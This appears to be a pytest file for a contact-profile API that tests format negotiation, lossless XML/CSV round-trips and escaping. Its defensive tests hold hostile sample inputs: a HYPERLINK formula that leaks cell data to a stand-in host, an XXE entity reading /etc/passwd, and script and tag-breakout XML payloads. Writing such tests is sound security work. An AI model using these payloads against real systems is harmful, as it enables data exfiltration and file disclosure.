"""Contact profiles in every format: which one a caller gets, that nothing is lost, that none is a weapon."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import TYPE_CHECKING, Any, Final

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from api.contact_profiles.csv_format import to_csv
from api.contact_profiles.formats import Format, choose_format
from api.contact_profiles.xml_format import to_xml
from api.http.errors import ApiError
from tests.api.contact_profile_calls import ROUTE, SEED, ask, made
from tests.api.contact_profile_readers import RefusedError, read_csv, read_xml

if TYPE_CHECKING:
    from collections.abc import Mapping

    from tests.fixtures.api import Caller

HOWEVER_BUSY: Final = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
texts = st.text(max_size=20) | st.sampled_from(
    [
        "",
        "=1+1",
        "'quoted",
        "-5",
        "@x",
        "\t",
        "a\r\nb",
        "true",
        "12",
        '"x"',
        "<&>",
        "]]>",
        "\x00",
        "\ufffe",
        "é\U0001f600",
    ]
)
scalars = st.none() | st.booleans() | texts | st.integers(-(2**53) + 1, 2**53 - 1) | st.floats(-1e15, 1e15)
names = st.text(min_size=1, max_size=12) | st.sampled_from(
    ["xml", "field", "item", "a.b", "=x", "a b", 'q"\n', "\x01", "ß"]
)
values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(names, inner, max_size=3), max_leaves=5
)
entities = st.fixed_dictionaries(
    {
        "profile": st.dictionaries(names, values, max_size=4),
        "active": st.booleans(),
        "contactIds": st.lists(texts, max_size=3),
        "_id": st.just("66f12a5c0123456789abcdef"),
        "createdAt": st.integers(0, 2**31 - 1),
    }
)


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        ("", Format.JSON),
        ("*/*", Format.JSON),
        ("*", Format.JSON),  # what some Java clients send
        ("application/*", Format.JSON),
        ("text/*", Format.TEXT_XML),
        *((one.value, one) for one in Format),
        ("TEXT/CSV", Format.CSV),
        ("application/json; charset=utf-8", Format.JSON),
        ("text/csv; header=present", Format.CSV),
        ("text/html, application/xhtml+xml, application/xml;q=0.9, */*;q=0.8", Format.XML),
        ("text/csv;q=0.5, application/xml;q=0.8", Format.XML),
        ("text/csv;q=0.8,application/xml;q=0.5", Format.CSV),
        ("application/xml, application/json", Format.JSON),  # equals: the server's order counts
        ("text/csv;q=0.001, image/png", Format.CSV),
        # the most specific range decides, whatever stands elsewhere
        ("*/*;q=0.9, application/json;q=0.1", Format.HAL),
        ("application/*;q=0.2, application/xml, */*;q=0.5", Format.XML),
        ("text/*;q=0.9, text/csv;q=0.1, application/*;q=0.5", Format.TEXT_XML),
        # 0 is no
        ("application/json;q=0, */*", Format.HAL),
        ("application/*;q=0, */*;q=0.1", Format.TEXT_XML),
        # what cannot be read is passed over
        ("nonsense, text/csv", Format.CSV),
        ("a/b/c;q=1, text/xml;q=0.1", Format.TEXT_XML),
        ("application/json;q=high, text/csv;q=0.9", Format.JSON),
        (",,text/csv,", Format.CSV),
    ],
)
def test_the_format_is_the_one_that_accept_prefers(accept: str, expected: Format):
    assert choose_format([accept]) is expected
    assert choose_format(accept.split(",")) is expected  # several headers are one


@pytest.mark.parametrize(
    "accept",
    ["image/png", "text/html", "application/json;q=0", "*/*;q=0", "nonsense", "application/json;q=0, text/html"],
)
def test_when_nothing_fits_the_answer_says_what_there_is(caller: Caller, accept: str):
    with pytest.raises(ApiError):
        choose_format([accept])
    for method, path in (("GET", ROUTE), ("POST", ROUTE), ("GET", f"{ROUTE}/schema/{SEED['projectId']}")):
        answer = ask(caller, method, path, headers={"Accept": accept}, json=SEED)
        assert (answer.status_code, answer.json()["code"]) == (406, "NOT_ACCEPTABLE")
        (fault,) = answer.json()["details"]
        assert fault["field"] == "Accept"
        assert all(one in fault["message"] for one in Format)
    assert ask(caller, "GET", ROUTE, params={"active": "all"}).json()["data"] == []  # refused before it was made


def sent_as(wanted: Format) -> str:
    return f"{wanted}; charset=utf-8" if wanted.startswith("text/") else wanted.value


def read(text: bytes, media_type: str) -> Any:
    """One entity or a list of them, by any client."""
    if "xml" in media_type:
        root, value = read_xml(text)
        assert root == ("contactProfiles" if "data" in value else "contactProfile")
        return value
    return read_csv(text) if media_type == "text/csv" else json.loads(text)


@pytest.mark.parametrize("wanted", list(Format))
def test_the_documented_profile_comes_in_every_format(caller: Caller, wanted: Format):
    accept = {"Accept": wanted.value}
    created = ask(caller, "POST", ROUTE, json=SEED, headers=accept)
    assert created.status_code == 201
    assert created.headers["content-type"] == sent_as(wanted)
    assert created.headers["vary"] == "Accept"
    href = created.headers["location"]
    plain = ask(caller, "GET", href).json()
    single = ask(caller, "GET", href, headers=accept)
    assert single.content == created.content
    entity = read(single.content, wanted.value)
    if wanted is Format.HAL:
        assert entity.pop("_links") == {"self": {"href": href}}
    assert entity == ([plain] if wanted is Format.CSV else plain)
    listed = read(ask(caller, "GET", ROUTE, headers=accept).content, wanted.value)
    if wanted is Format.HAL:
        (embedded,) = listed["_embedded"]["profiles"]
        assert embedded == {**plain, "_links": {"self": {"href": href}}}
        assert listed["_links"]["self"]["href"] == f"{ROUTE}?limit=25"
    else:
        assert (listed if wanted is Format.CSV else listed["data"]) == [plain]
    schema = ask(caller, "GET", f"{ROUTE}/schema/{SEED['projectId']}", headers=accept)
    assert (schema.status_code, schema.headers["content-type"]) == (200, sent_as(wanted))


def test_the_xml_of_the_documented_profile_is_this(caller: Caller):
    entity = made(caller, **SEED)
    text = ask(caller, "GET", f"{ROUTE}/{entity['_id']}", headers={"Accept": "application/xml"}).text
    assert text == (
        '<?xml version="1.0" encoding="UTF-8"?>\n<contactProfile type="object"><profile type="object">'
        '<prevent_data_collection type="boolean">true</prevent_data_collection>'
        '<accepted_gdpr type="boolean">true</accepted_gdpr><privacy_policy type="object"></privacy_policy>'
        '<tasks type="array"><item>buyer</item></tasks><memories type="array"><item type="object"><id>123456</id>'
        "<timestamp>2024-09-23T08:37:00Z</timestamp><text>This is a memory.</text></item></memories>"
        "<firstname>Max</firstname><lastname>Mustermann</lastname><email>jsmith@example.com</email>"
        '<profilepic></profilepic></profile><active type="boolean">true</active>'
        f'<contactIds type="array"><item>mail@example.com</item></contactIds><_id>{entity["_id"]}</_id>'
        f'<createdAt type="number">{entity["createdAt"]}</createdAt>'
        f'<lastChanged type="number">{entity["lastChanged"]}</lastChanged><createdBy>{entity["createdBy"]}</createdBy>'
        f"<lastChangedBy>{entity['lastChangedBy']}</lastChangedBy></contactProfile>"
    )


def test_hal_lists_link_to_the_next_page_and_keep_the_filters(caller: Caller):
    ids = sorted((made(caller, contactIds=["a"])["_id"] for _ in range(3)), reverse=True)
    accept = {"Accept": "application/hal+json"}
    page = ask(caller, "GET", ROUTE, params={"limit": 2, "contactId": "a"}, headers=accept).json()
    following = ask(caller, "GET", page["_links"]["next"]["href"], headers=accept).json()
    assert "next" not in following["_links"]
    shown = [one["_id"] for found in (page, following) for one in found["_embedded"]["profiles"]]
    assert shown == ids


@HOWEVER_BUSY
@given(entities)
def test_whatever_a_profile_holds_xml_gives_it_back(entity: Mapping[str, Any]):
    assert read_xml(to_xml("contactProfile", entity)) == ("contactProfile", entity)


@HOWEVER_BUSY
@given(st.lists(entities, max_size=2))
def test_whatever_profiles_hold_csv_gives_it_back(found: list[Mapping[str, Any]]):
    assert read_csv(to_csv(found)) == found


@HOWEVER_BUSY
@given(st.lists(entities, min_size=1, max_size=2))
def test_no_cell_of_a_csv_begins_like_a_formula(found: list[Mapping[str, Any]]):
    for row in csv.reader(io.StringIO(to_csv(found).decode(), newline="")):
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


FORMULAS: Final = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\uff1d1"]


dangerous = st.text("=+-@\t\r\n;|, '\"a1\ufeff\uff1d", max_size=8)


@HOWEVER_BUSY
@given(
    st.dictionaries(dangerous, dangerous | st.lists(dangerous, max_size=2), max_size=3), st.lists(dangerous, max_size=2)
)
def test_no_spreadsheet_of_any_country_finds_a_formula_and_nothing_is_lost(person: dict[str, Any], ids: list[str]):
    """OWASP www-community#443: what ends a cell, and what is left out before a sign, differs by country and program."""
    found = [{"_id": "1", "contactIds": ids, "profile": person}]
    text = to_csv(found, columns=["_id"])
    assert read_csv(text) == found
    for delimiter in ",;|\t":
        for row in csv.reader(io.StringIO(text.decode(), newline=""), delimiter=delimiter):
            for cell in row:
                assert not cell.strip('\ufeff \t\r\n"').startswith(("=", "+", "-", "@", "\uff1d")), (delimiter, cell)


@pytest.mark.parametrize(
    "cell", ["Max;=1+1", "\t=1+1", " =1+1", "\u00a0@x", "a\n=1", "'=1", "x|+1", '";"=1', "\ufeff=1"]
)
def test_a_cell_is_no_formula_behind_whatever_ends_a_cell(cell: str):
    (_, (written,)) = csv.reader(io.StringIO(to_csv([{"c": cell}], columns=["c"]).decode(), newline=""))
    assert not re.search(r"(?:^|[;|\t\r\n])[\s\"\ufeff]*[=+@-]", written)


def test_formulas_come_out_of_a_csv_as_texts(caller: Caller):
    entity = made(caller, profile={"firstname": FORMULAS[0], "own": FORMULAS}, contactIds=FORMULAS)
    text = ask(caller, "GET", f"{ROUTE}/{entity['_id']}", headers={"Accept": "text/csv"}).content
    assert b"\"'=HYPERLINK" in text
    assert read_csv(text) == [entity]


@pytest.mark.parametrize(
    "attack",
    [
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        "&a;&lt;&#0;",
        "]]><script>alert(1)</script><![CDATA[",
        "</firstname></profile><active>false</active>",
        '<?xml version="1.0"?><!ENTITY % p "x">',
        "--><!--",
    ],
)
def test_markup_in_a_profile_is_text_in_xml(caller: Caller, attack: str):
    entity = made(caller, profile={"firstname": attack, attack: [attack], "privacy_policy": {attack: attack}})
    answer = ask(caller, "GET", f"{ROUTE}/{entity['_id']}", headers={"Accept": "text/xml"})
    assert b"<!DOCTYPE" not in answer.content
    assert b"<!ENTITY" not in answer.content
    assert read_xml(answer.content) == ("contactProfile", entity)


def test_the_reader_of_these_tests_would_notice_entities():
    with pytest.raises(RefusedError):
        read_xml(b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')
